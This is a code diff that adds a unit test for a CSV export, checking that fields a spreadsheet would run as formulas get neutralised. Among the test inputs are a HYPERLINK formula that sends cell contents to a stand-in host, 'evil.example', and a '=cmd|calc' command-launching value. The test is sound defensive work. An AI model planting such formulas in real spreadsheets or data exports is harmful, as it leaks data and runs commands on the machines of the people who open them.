@@ -64,6 +64,15 @@ describe('export (the edition as data for repositories)', function () {
     expect(toCsv([row]).split('\r\n')[1]).to.equal('a,"He said ""no"", twice",,,x; y,,,');
   });
 
+  it('neutralises CSV fields a spreadsheet would run as formulas, and only those', () => {
+    const row = (title: string, persons: string[] = []) => ({ id: 'a', title, date: '', place: '', persons, places: [], organisations: [], url: '' });
+    const titleCell = (title: string, persons?: string[]): string => toCsv([row(title, persons)]).split('\r\n')[1]!.split(',')[1]!;
+    expect(titleCell('=HYPERLINK("http://evil.example/?"&A1;"Click")')).to.equal(`"'=HYPERLINK(""http://evil.example/?""&A1;""Click"")"`);
+    for (const formula of ['+1+1', '-2+3', '@SUM(A1)', '\t=1', ' =1', '\uff1d1']) expect(titleCell(formula), JSON.stringify(formula)).to.match(/^"?'/);
+    for (const plain of ['Decision of 21 September 1966', '1966-09-21', 'a = b', 'MiG-21']) expect(titleCell(plain)).to.equal(plain);
+    expect(toCsv([row('x', ['=cmd|calc', 'Giap'])]).split('\r\n')[1]).to.contain(",'=cmd|calc; Giap,");
+  });
+
   it('zips it all but corpus.xml with a README, the licence and CITATION.cff', () => {
     const zip = unzipSync(readFileSync(path.join(out, 'editio-edition.zip')));
     expect(zip).not.to.have.property('corpus.xml');
